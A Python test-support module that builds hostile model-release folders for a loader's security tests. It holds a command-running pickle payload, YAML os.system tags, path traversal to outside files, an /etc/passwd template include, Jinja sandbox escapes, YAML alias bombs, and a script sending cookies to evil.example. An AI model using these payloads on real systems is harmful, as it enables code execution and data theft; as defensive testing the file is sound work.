"""Release folders as somebody makes them who may write to the registry: one change each.

Takes a copy of a good release, and of the repository with its base; plants something in it and
seals it again, so that every digest inside fits. Each must be refused before it does anything, with
these words, or be inert: loaded, and answering as it did.
"""

from __future__ import annotations

import json
import os
import pickle
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from dslm.contract import load_contract
from dslm.evidence import adapter_digests
from dslm.inference.base_models.base_files import locate
from dslm.provenance import digest_file, write_manifest
from dslm.settings.files.document_loading import read_yaml
from dslm.settings.recipe import BaseModelSource, load_recipe
from support.releases.tiny_release import sealed

INERT = None
ADAPTER = "adapter/adapter_config.json"
WEIGHTS = "adapter/adapter_model.safetensors"
BASE_WEIGHTS = "model.safetensors"


@dataclass(frozen=True)
class Place:
    """Where a hostile release lies: its folder, the repository, and what it must not touch."""

    folder: Path
    root: Path
    outside: Path

    @property
    def base(self) -> Path:
        """The base model's folder."""
        return self.root / "base" / "tiny"


Plant = Callable[[Place], None]


@dataclass(frozen=True)
class Hostile:
    """What is planted, and the words that refuse it; None where it is inert.

    `seal`: whether the digests inside are made to fit afterwards.
    """

    name: str
    plant: Plant
    said: str | None
    seal: bool = True


class Payload:
    """Runs a command when it is unpickled."""

    def __init__(self, owned: Path):
        """`owned` is what it makes."""
        self.owned = owned

    def __reduce__(self) -> Any:
        """What pickle calls."""
        return os.system, (f"touch {self.owned}",)


def pickled(place: Place) -> bytes:
    """A pickle that leaves a mark outside."""
    return pickle.dumps(Payload(place.outside / "owned"))


def python_code(place: Place) -> str:
    """A module that leaves the same mark."""
    return f"open({str(place.outside / 'owned')!r}, 'w').close()\n"


def write(
    name: str, content: Callable[[Place], bytes | str] | bytes | str, *, of_base: bool = False
) -> Plant:
    """A file of the release or base."""

    def plant(place: Place) -> None:
        made = content(place) if callable(content) else content
        path = (place.base if of_base else place.folder) / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(made.encode() if isinstance(made, str) else made)

    return plant


def keys(name: str, *, of_base: bool = False, **changes: Any) -> Plant:
    """Other keys in a JSON file of the release or base; a callable is asked for the value."""

    def plant(place: Place) -> None:
        path = (place.base if of_base else place.folder) / name
        said = read_yaml(path, to_edit=True) if path.exists() else {}  # JSON is YAML
        for key, value in changes.items():
            said[key] = value(place) if callable(value) else value
        path.write_text(json.dumps(said))

    return plant


def recipe_base(**source: Any) -> Plant:
    """Another base in the recipe."""
    return keys("recipe.yaml", **{"base": lambda place: {
        key: value(place) if callable(value) else value for key, value in source.items()
    }})  # fmt: skip


def base_file(name: str, content: Callable[[Place], bytes | str] | bytes | str) -> Plant:
    """A file of the base model."""
    return write(name, content, of_base=True)


def header(change: Callable[[dict[str, Any], int], bytes]) -> Plant:
    """Weights with another header; the change gets the header and the length of what follows."""

    def plant(place: Place) -> None:
        path = place.folder / WEIGHTS
        data = path.read_bytes()
        length = int.from_bytes(data[:8], "little")
        head = change(json.loads(data[8 : 8 + length]), len(data) - 8 - length)
        path.write_bytes(head + data[8 + length :])

    return plant


def _framed(said: dict[str, Any]) -> bytes:
    text = json.dumps(said).encode()
    return len(text).to_bytes(8, "little") + text


def _outside_the_file(said: dict[str, Any], size: int) -> bytes:
    name = next(key for key in said if key != "__metadata__")
    said[name]["data_offsets"] = [size, 2 * size]
    return _framed(said)


def _overlapping(said: dict[str, Any], _: int) -> bytes:
    one, other, *_rest = (key for key in said if key != "__metadata__")
    said[other]["data_offsets"] = said[one]["data_offsets"]
    return _framed(said)


def _of_another_size(said: dict[str, Any], _: int) -> bytes:
    name = next(key for key in said if key != "__metadata__")
    said[name]["shape"] = [2**40, 2**40]
    return _framed(said)


def base_weights(part: str) -> Plant:
    """A weight of the base as a tensor of the adapter, all zeros; `part` is in its name."""

    def plant(place: Place) -> None:
        from safetensors.torch import load_file, save_file

        adapter, base = load_file(place.folder / WEIGHTS), load_file(place.base / BASE_WEIGHTS)
        name = next(name for name in base if part in name)
        under = {f"base_model.model.{name}", f"base_model.model.{name}".replace(
            ".weight", ".base_layer.weight")}  # fmt: skip
        zeros = {one: base[name].float() * 0 for one in under}
        save_file({**adapter, **{one: zero.clone() for one, zero in zeros.items()}},
                  place.folder / WEIGHTS)  # fmt: skip

    return plant


def link(name: str, to: Callable[[Place], Path]) -> Plant:
    """A link in the release."""

    def plant(place: Place) -> None:
        path = place.folder / name
        if path.is_dir():
            shutil.copytree(path, place.outside / path.name)
            shutil.rmtree(path)
        path.unlink(missing_ok=True)
        path.symlink_to(to(place))

    return plant


def sparse(name: str, size: int) -> Plant:
    """A file that is as long as it says, and takes no room."""

    def plant(place: Place) -> None:
        with (place.folder / name).open("ab") as stream:
            stream.truncate(size)

    return plant


def crowded(place: Place) -> None:
    """More files than any release has."""
    for number in range(600):
        (place.folder / "adapter" / f"{number}.txt").touch()


def manifest_names(name: str) -> Plant:
    """A file elsewhere, in the release's manifest."""

    def plant(place: Place) -> None:
        path = place.folder / "MANIFEST.json"
        said = json.loads(path.read_text())
        secret = place.outside / "secret.txt"
        said["files"][name.format(outside=secret)] = digest_file(secret)
        from dslm.provenance import digest_json

        said["digest"] = digest_json(said["files"])
        path.write_text(json.dumps(said))

    return plant


def yaml_bomb(name: str) -> Plant:
    """A document whose aliases stand for a billion values."""
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 10)]
    return write(name, "\n".join(lines) + "\n")


def moved_base(place: Place) -> Path:
    """The base model, elsewhere."""
    there = place.outside / "model"
    if not there.exists():
        shutil.copytree(place.base, there)
    return there


def seal_again(place: Place) -> None:
    """Make every digest in the release fit what lies there, as far as it can be read."""
    folder = place.folder
    adapter = folder / "adapter"
    made_from = json.loads((adapter / "MANIFEST.json").read_text())["inputs"]
    try:
        base = locate(BaseModelSource(folder=str(place.base)), place.root).digests()
    except Exception:  # noqa: BLE001 - what cannot be read stays as it is
        base = {}
    named = json.loads((folder / "MANIFEST.json").read_text())["inputs"]
    try:
        recipe = load_recipe(folder / "recipe.yaml")
        named["plan"], made_from["recipe"] = recipe.plan_digest(), recipe.digest()
        named["contract"] = load_contract(folder / "workflow.yaml").digest()
    except Exception:  # noqa: BLE001
        pass
    if not adapter.is_symlink():
        write_manifest(adapter, made_from | base)
        named |= adapter_digests(adapter)
    path = folder / "calibration.json"
    said = json.loads(path.read_text())
    said["evidence"] |= {key: named[key] for key in said["evidence"] if key in named} | {
        key: said["evidence"][key] for key in ("model", "gold", "calibration", "calibration_cases")
    }
    path.write_text(json.dumps(said))
    named |= {"calibration": digest_file(path), "lock": digest_file(folder / "requirements.txt")}
    (folder / "evidence.json").write_text(json.dumps({"candidate": named}))
    sealed(folder, named)


REACH = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
OTHER_LOADER = "otherwise than by dslm's own loader"
OURS = {"loader_module": "dslm.releasing.pyfunc", "python_version": "3.11.7"}
SCRIPT = "<script>fetch('http://evil.example/' + document.cookie)</script>"
EVIL = "http://evil.example/x"


def _flavors(**flavors: Any) -> dict[str, Any]:
    return {"flavors": flavors}


HOSTILE = (
    # --- paths and files
    Hostile("a file outside, by its relative path", manifest_names("../../{outside}"),
            "does not belong to a release", seal=False),
    Hostile("a file outside, by its whole path", manifest_names("{outside}"),
            "does not belong to a release", seal=False),
    Hostile("a file above, through a folder", manifest_names("adapter/../../secret.txt"),
            "does not belong to a release", seal=False),
    Hostile("a link to a file outside", link("card.md", lambda p: p.outside / "secret.txt"),
            r"card\.md: a link"),
    Hostile("a linked folder", link("adapter", lambda p: p.outside / "adapter"),
            "adapter: a link"),
    Hostile("a link to itself", link("card.md", lambda p: p.folder / "card.md"), "a link",
            seal=False),
    Hostile("an endless device", link("card.md", lambda _: Path("/dev/zero")), "a link",
            seal=False),
    Hostile("a pipe that nobody writes into",
            lambda p: os.mkfifo(p.folder / "adapter" / "notes.txt"), "no regular file", seal=False),
    Hostile("a folder in a folder", write("adapter/own/notes.txt", "x"),
            "a folder that no release has"),
    Hostile("a terabyte of weights", sparse(WEIGHTS, 10**12), "no release's has more", seal=False),
    Hostile("a gigabyte of JSON", sparse("calibration.json", 10**9), "no release's has more",
            seal=False),
    Hostile("more files than can be counted", crowded, "more than 500 files"),
    Hostile("a hidden file", write("adapter/.netrc", "x"), "does not belong to a release"),
    Hostile("a manifest with a key twice",
            write("MANIFEST.json", '{"digest": "a", "digest": "b", "files": {}, "inputs": {}}'),
            "broken manifest.*stands twice", seal=False),
    Hostile("a manifest nested without end",
            write("MANIFEST.json", '{"files":' * 5000 + "1" + "}" * 5000), "broken manifest",
            seal=False),
    # --- code
    Hostile("a pickle beside the weights", write("adapter/adapter_model.bin", pickled),
            "does not belong to a release"),
    Hostile("a pickle named as weights", write(WEIGHTS, pickled), "read as safetensors"),
    Hostile("a pickle named as JSON", write("adapter/training.json", pickled), INERT),
    Hostile("a module", write("code/backdoor.py", python_code), "does not belong to a release"),
    Hostile("a module in the adapter", write("adapter/modeling.py", python_code),
            "does not belong to a release"),
    # --- MLmodel
    Hostile("MLmodel with code of the release", keys("MLmodel", **_flavors(
            python_function={"loader_module": "backdoor", "code": "code"})), OTHER_LOADER),
    Hostile("MLmodel with our loader and other code", keys("MLmodel", **_flavors(
            python_function=OURS | {"code": "adapter"})), OTHER_LOADER),
    Hostile("MLmodel with another module that is there", keys("MLmodel", **_flavors(
            python_function={"loader_module": "mlflow.sklearn", "model_path": "m.pkl"})),
            OTHER_LOADER),
    Hostile("MLmodel with another flavour beside ours", keys("MLmodel", **_flavors(
            python_function=OURS, sklearn={"pickled_model": "model.pkl"})), OTHER_LOADER),
    Hostile("MLmodel with an environment", keys("MLmodel", **_flavors(
            python_function=OURS | {"env": {"conda": "conda.yaml"}})), OTHER_LOADER),
    Hostile("MLmodel of YAML that makes objects", write("MLmodel",
            "flavors: !!python/object/apply:os.system ['touch owned']\n"), OTHER_LOADER),
    # --- the adapter's config
    Hostile("another kind of adapter", keys(ADAPTER, peft_type="PROMPT_TUNING"),
            "sets 'peft_type'"),
    Hostile("an adapter of adapters", keys(ADAPTER, peft_type="XLORA",
            adapters={"0": str(Path("/nowhere"))}), "that no adapter of dslm has"),
    Hostile("a module that PEFT imports", keys(ADAPTER, megatron_config={"a": 1},
            megatron_core="backdoor"), "sets 'megatron_config'"),
    Hostile("layers as an expression without end", keys(ADAPTER, target_modules="(.*a)+$"),
            "sets 'target_modules'"),
    Hostile("exclusion as an expression without end", keys(ADAPTER, exclude_modules="(.*a)+$"),
            "sets 'exclude_modules'"),
    Hostile("layers copied a thousand times", keys(ADAPTER, layer_replication=[[0, 2]] * 1000),
            "sets 'layer_replication'"),
    Hostile("whole layers beside the adapter", keys(ADAPTER, modules_to_save=["lm_head"]),
            "sets 'modules_to_save'"),
    Hostile("a rank that fills the memory", keys(ADAPTER, r=10**9), "sets 'r'"),
    Hostile("a rank for one layer that does", keys(ADAPTER, rank_pattern={"q_proj": 10**9}),
            "sets 'rank_pattern'"),
    Hostile("a class to map to", keys(ADAPTER, auto_mapping={
            "base_model_class": "Evil", "parent_library": "backdoor"}), INERT),
    Hostile("the base's embeddings in the adapter", base_weights("embed_tokens"), "of no LoRA"),
    Hostile("the base's own layer below the adapter's", base_weights("q_proj"), "of no LoRA"),
    Hostile("the base's norms in the adapter", base_weights("layernorm"), "of no LoRA"),
    Hostile("a base by another name", keys(ADAPTER,
            base_model_name_or_path=lambda p: str(moved_base(p))), INERT),
    Hostile("weights drawn from a file", keys(ADAPTER,
            init_lora_weights=lambda p: str(p.outside / "secret.txt")), INERT),
    Hostile("a config that is a list", write(ADAPTER, "[]"), "not an object"),
    # --- weights
    Hostile("a header as long as the world", header(lambda _s, _n: (2**63).to_bytes(8, "little")),
            "a header of"),
    Hostile("a tensor outside of the file", header(_outside_the_file), "not lie where it says"),
    Hostile("two tensors in one place", header(_overlapping), "not lie where it says"),
    Hostile("a tensor larger than its bytes", header(_of_another_size), "not lie where it says"),
    # --- documents
    Hostile("a base above the repository", recipe_base(folder="../outside/model"),
            "lies where none is looked for"),
    Hostile("a base elsewhere on the machine", recipe_base(folder=lambda p: str(moved_base(p))),
            "lies where none is looked for"),
    Hostile("the whole disk as base", recipe_base(folder="/"), "lies where none is looked for"),
    Hostile("a hub model named as a path", recipe_base(hub="../../outside/model",
            revision="0" * 40), "no hub id"),
    Hostile("a recipe with another way of attention", keys("recipe.yaml", inference={
            "dtype": "float32", "attention": "evil/kernel", "merge_adapter": True, "batch_size": 8,
            "max_answer_tokens": 64, "copy_grounded": False, "baseline_examples": 1}), "attention"),
    Hostile("a recipe of YAML that makes objects", write("recipe.yaml",
            "base: !!python/object/apply:os.system ['touch owned']\n"), r"recipe\.yaml"),
    Hostile("a recipe of a billion aliases", yaml_bomb("recipe.yaml"), r"recipe\.yaml"),
    Hostile("a contract of a billion aliases", yaml_bomb("workflow.yaml"), r"workflow\.yaml"),
    Hostile("a schema to be fetched", lambda p: (p.folder / "workflow.yaml").write_text(
            (p.folder / "workflow.yaml").read_text().replace(
                "number: {type: [string, \"null\"], maxLength: 20}",
                f"number: {{$ref: '{EVIL}'}}")), "evil.example"),
    Hostile("HTML in what people read", lambda p: (p.folder / "workflow.yaml").write_text(
            (p.folder / "workflow.yaml").read_text().replace(
                "A mail becomes an order", f"A mail {SCRIPT} becomes an order")), INERT),
    Hostile("HTML in the card", write("card.md", f"# mini\n{SCRIPT}\n"), INERT),
    Hostile("packages from elsewhere", write("requirements.txt",
            f"--index-url {EVIL}\n-e git+{EVIL}#egg=x\n"), INERT),
    Hostile("a note of MLflow's with other things in it",
            write("registered_model_meta", "!!python/object/apply:os.system ['touch owned']"),
            INERT, seal=False),
    # --- the base
    Hostile("a base that names code", keys("config.json", of_base=True,
            auto_map={"AutoModelForCausalLM": "backdoor.Model"}), "names code to run"),
    Hostile("a tokenizer that names code", keys("tokenizer_config.json", of_base=True,
            auto_map={"AutoTokenizer": ["backdoor.Tok", None]}), "names code to run"),
    Hostile("a base with a module", base_file("modeling_tiny.py", python_code), "can run code"),
    Hostile("a base with a pickle", base_file("pytorch_model.bin", pickled), "can run code"),
    Hostile("a base with an adapter of its own", base_file("adapter_config.json",
            '{"peft_type": "LORA", "base_model_name_or_path": "../outside"}'), "onto the base"),
    Hostile("a base whose weights are elsewhere", keys("config.json", of_base=True,
            transformers_weights="../../../outside/model/model.safetensors"), "names code to run"),
    Hostile("a base with shards elsewhere", keys("model.safetensors.index.json", of_base=True,
            weight_map={"a": "../../../outside/model/model.safetensors"}),
            "names a file elsewhere"),
    Hostile("a base of an architecture that is a path", keys("config.json", of_base=True,
            model_type="../../outside"), "no known architecture"),
    Hostile("a base that says what its architecture has not", keys("config.json", of_base=True,
            use_kernels=True), "says what llama does not have"),
    Hostile("a base packed its own way", keys("config.json", of_base=True,
            quantization_config={"quant_method": "awq"}), "way of its own"),
    Hostile("a template that reaches for classes", base_file("chat_template.jinja", REACH),
            "template cannot be used"),
    Hostile("a template that includes a file", base_file("chat_template.jinja",
            "{% include '/etc/passwd' %}"), "template cannot be used"),
)  # fmt: skip
